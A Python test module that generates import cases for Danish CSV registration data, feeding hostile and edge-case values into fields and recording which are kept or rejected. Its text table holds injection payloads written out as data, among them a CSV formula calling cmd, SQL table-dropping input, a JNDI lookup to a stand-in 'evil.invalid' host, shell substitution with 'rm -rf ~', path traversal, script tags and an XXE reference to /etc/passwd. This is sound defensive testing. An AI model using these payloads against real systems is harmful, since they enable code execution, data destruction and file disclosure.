"""Hostile values, each in one row of several members: kept to the letter where any text may stand, else set aside."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from cases import Accepted, Case, changed, clean_members, contents_of, encoding_of, zipped

#: The row they stand in; nothing refers to it.
ROW = 7
#: Where a value is put, by what the field holds: member, field, and the rule that nearly every one of them breaks.
Plan = dict[str, tuple[str, str, str]]
NAVN: dict[str, Plan] = {
    "webreg": {"text": ("virksomheder.csv", "navn", ""), "code": ("begivenheder.csv", "begivenhed", "bad_code")},
    "biflis": {
        "text": ("leverandoer.csv", "navn", ""),
        "text in a key": ("referencegruppe.csv", "kategori", ""),
        "filled": ("mentoraftale.csv", "formaal", ""),
        "code": ("kontaktforloeb.csv", "ydelse", "bad_code"),
    },
}
NUMBER: dict[str, Plan] = {
    "webreg": NAVN["webreg"]
    | {
        "integer": ("tidsforbrug.csv", "minutter", "bad_number"),
        "id": ("opgaver.csv", "opgave_id", "bad_id"),
        "cpr": ("borgere.csv", "cpr", "bad_cpr"),
        "pattern": ("jobcentre.csv", "kommunekode", "bad_text"),
    },
    "biflis": NAVN["biflis"]
    | {
        "decimal": ("omkostning.csv", "beloeb_kr", "bad_number"),
        "integer in a key": ("budget.csv", "aar", "bad_number"),
        "integer": ("mentorkontakt.csv", "minutter", "bad_number"),
    },
}
DAY: dict[str, Plan] = {
    "webreg": NAVN["webreg"]
    | {"date": ("opgaver.csv", "dato", "bad_date"), "time": ("tidsforbrug.csv", "start_tid", "bad_time")},
    "biflis": NAVN["biflis"]
    | {"month": ("omkostning.csv", "periode", "bad_date"), "date": ("mentorkontakt.csv", "dato", "bad_date")},
}
#: What a field is when it is not the rule of the plan: {kind of field: another rule, or ("=", what stands in raw)}.
Otherwise = dict[str, Any]

TEXTS: dict[str, tuple[str, Otherwise]] = {
    "formula": ("=1+cmd|' /C calc'!A0", {}),
    "plus": ("+1+1", {}),
    "minus": ("-1+1", {}),
    "at": ("@SUM(1+1)", {}),
    "tab-formula": ("\t=1+1", {}),
    "cr-formula": ("\r=1+1", {}),
    "sql": ("'; drop table ops.delivery; --", {}),
    "sql-comment": ("*/ or 1=1 /* \\' ; --", {}),
    "jinja": ("{{ 7*7 }}{% raw %}{# x #}", {}),
    "format": ("{0.__class__.__mro__}{}", {}),
    "percent": ("%s%n%(delivery_id)s%%", {}),
    "dollar": ("${jndi:ldap://evil.invalid/x}", {}),
    "shell": ("$(touch evil)`touch evil`|rm -rf ~", {}),
    "path": ("../../../../tmp/evil", {}),
    "script": ("<script>alert(1)</script>", {}),
    "entity": ("&lt;&xxe;]]><!-- -->", {}),
    "markdown": ("[tryk](javascript:alert(1)) ![x](http://evil.invalid) | x", {}),
    "escape": ("\x1b[2J\x1b[31mrød", {}),
    "controls": ("a\x01\x02\x07\x08b", {}),
    "delete": ("a\x7fb", {}),
    "right-to-left": ("abc\u202edcba", {}),
    "zero-width": ("Na\u200bvn\u200d", {}),
    "mark-of-utf8": ("\ufeffNavn", {}),
    "no-character": ("a\ufffe\uffffb", {}),
    "replacement": ("a\ufffdb", {}),
    "beyond-16-bit": ("\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0010ffff", {}),
    "decomposed": ("Aalborg A\u030asen", {}),
    "zalgo": ("Z" + "\u0300\u0301\u0302" * 40, {}),
    "turkish": ("İıiI ß", {}),
    "null": ("NULL", {}),
    "copy-null": ("\\N", {}),
    "copy-end": ("\\.", {}),
    "backslash": ("a\\", {}),
    "backslashes": ("\\t\\x41\\101\\\\", {}),
    "none": ("None", {}),
    "withheld": ("#mentor-dw: withheld", {}),
    "blank": (" ", {"filled": ("=", False)}),
    "no-break-space": ("\u00a0", {"filled": ("=", False)}),
    "blanks-around": ("  Navn  ", {}),
    "empty": (
        "",
        {"text": "empty_required", "text in a key": "key_empty", "code": "empty_required", "filled": ("=", False)},
    ),
    "json": ('{"a": ["b", null]}', {}),
    "xml": ('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">', {}),
    "long": ("langt " * 15_000, {}),
    "long-noise": ("".join(chr(0x41 + (n * n * 7919 + n // 7) % 26) for n in range(40_000)), {}),
    "cpr": ("Hans 610101-1234", {"text": ("=", "Hans ******-****"), "text in a key": ("=", "Hans ******-****")}),
}
NUMBERS: dict[str, tuple[str, Otherwise]] = {
    "1e999": ("1e999", {}),
    "1e-400": ("1e-400", {}),
    "nan": ("NaN", {}),
    "infinity": ("Infinity", {}),
    "minus-infinity": ("-inf", {}),
    "arabic": ("\u0661\u0662\u0663", {}),
    "devanagari": ("\u0967\u0968\u0969", {}),
    "fullwidth": ("\uff11\uff12\uff13", {}),
    "superscript": ("\u00b2\u00b3", {}),
    "half": ("\u00bd", {}),
    "plus-five": ("+5", {}),
    "hexadecimal": ("0x10", {}),
    "binary": ("0b11", {}),
    "octal": ("0o17", {}),
    "underscore": ("1_000", {}),
    "thousands-point": ("1.000", {}),
    "thousands-and-comma": ("1.000,00", {}),
    "thousands-blank": ("1 000", {}),
    "thousands-no-break": ("1\u00a0000", {}),
    "thousands-apostrophe": ("1'000", {}),
    "minus-nought": (
        "-0",
        {"integer": {"webreg": "below_min", "biflis": ("=", 0)}, "decimal": ("=", 0)},
    ),
    "minus-behind": ("5-", {}),
    "brackets": ("(5)", {}),
    "percent-sign": ("5%", {}),
    "currency": ("kr. 5", {}),
    "blank-before": (" 12", {}),
    "blank-behind": ("12 ", {}),
    "line-end-behind": ("12\n", {}),
    "noughts": (
        "0" * 30 + "12",
        {
            "id": ("=", "0" * 30 + "12"),
            "text": ("=", "******-****"),
            "text in a key": ("=", "******-****"),
        },
    ),
    "too-large": (
        "21474836480",
        {
            "text": ("=", "******-****"),
            "text in a key": ("=", "******-****"),
            "id": ("=", "21474836480"),
        },
    ),
    "comma": ("1,5", {"decimal": ("=", 1.5)}),
    "point": ("1.5", {}),
    "comma-alone": (",", {}),
    "comma-first": (",5", {}),
    "comma-last": ("5,", {}),
    "two-commas": ("1,5,5", {}),
    "seven-decimals": ("1,0000001", {}),
    "two-minuses": ("--5", {}),
    "forty-one-digits": ("1" * 41, {"text": ("=", "******-****"), "text in a key": ("=", "******-****")}),
}
DAYS: dict[str, tuple[str, Otherwise]] = {
    "noughts": ("0000-00-00", {}),
    "february-30": ("2016-02-30", {}),
    "february-29": ("2015-02-29", {}),
    "month-13": ("2016-13-01", {}),
    "one-digit": ("2016-1-1", {}),
    "two-digit-year": ("16-01-01", {}),
    "slashes": ("2016/01/01", {}),
    "points": ("01.01.2016", {}),
    "american": ("12/31/2016", {}),
    "danish": ("31-12-2016", {"date": {"webreg": "bad_date", "biflis": ("=", "2016-12-31")}}),
    "with-time": ("2016-01-01 00:00:00", {}),
    "iso-time": ("2016-01-01T00:00:00Z", {}),
    "week": ("2016-W01-1", {}),
    "year-10000": ("10000-01-01", {}),
    "before-christ": ("2016-01-01 BC", {}),
    "pg-now": ("now", {}),
    "pg-today": ("today", {}),
    "pg-infinity": ("infinity", {}),
    "pg-epoch": ("epoch", {}),
    "other-digits": ("\u0662\u0660\u0661\u0666-01-01", {}),
    "dashes": ("2016\u201301\u201301", {}),
    "blank": ("2016-01-01 ", {}),
    "24-hours": ("24:00", {}),
    "minute-60": ("23:60", {}),
    "leap-second": ("23:59:60", {}),
    "one-digit-hour": ("9:00", {}),
    "afternoon": ("09:00 PM", {}),
    "time-zone": ("09:00+01", {}),
    "pg-allballs": ("allballs", {}),
    "last-day": ("9999-12-31", {"date": {"webreg": ("=", "9999-12-31"), "biflis": "bad_date"}}),
    "first-day": ("0001-01-01", {"date": {"webreg": ("=", "0001-01-01"), "biflis": "bad_date"}}),
}


def one(kind: str, name: str, value: str, otherwise: Otherwise, plan: dict[str, Plan], source: str) -> Case:
    """The value in every field of the plan."""
    members = clean_members(source)
    # Who refers to a row that is set aside follows it.
    gone = [("tilknytninger.csv", ROW, "reference")] if (source, value) == ("webreg", "") else []
    kept = []
    for field_kind, (member, column, rule) in plan[source].items():
        members = changed(members, member, ROW, column, value)
        said = otherwise.get(field_kind, rule)
        if isinstance(said, dict):
            said = said[source]
        if isinstance(said, tuple):
            kept.append((member, ROW, column, said[1]))
        elif said:
            gone.append((member, ROW, said))
        else:
            kept.append((member, ROW, column, True if field_kind == "filled" else value))
    expected = Accepted(gone=tuple(gone), kept=tuple(kept))
    return zipped(
        f"{kind}-{name}", source, f"the value {value[:30]!r}", expected, lambda _: contents_of(source, members)
    )


def cases() -> Iterator[Case]:
    """Texts in the web registrations, and whatever Windows-1252 can write in BIFLIS where its fields are others."""
    for kind, values, plan in (("text", TEXTS, NAVN), ("number", NUMBERS, NUMBER), ("day", DAYS, DAY)):
        for name, (value, otherwise) in values.items():
            for source in ("webreg", "biflis"):
                try:
                    value.encode(encoding_of(source))
                except UnicodeEncodeError:
                    continue
                yield one(kind, name, value, otherwise, plan, source)
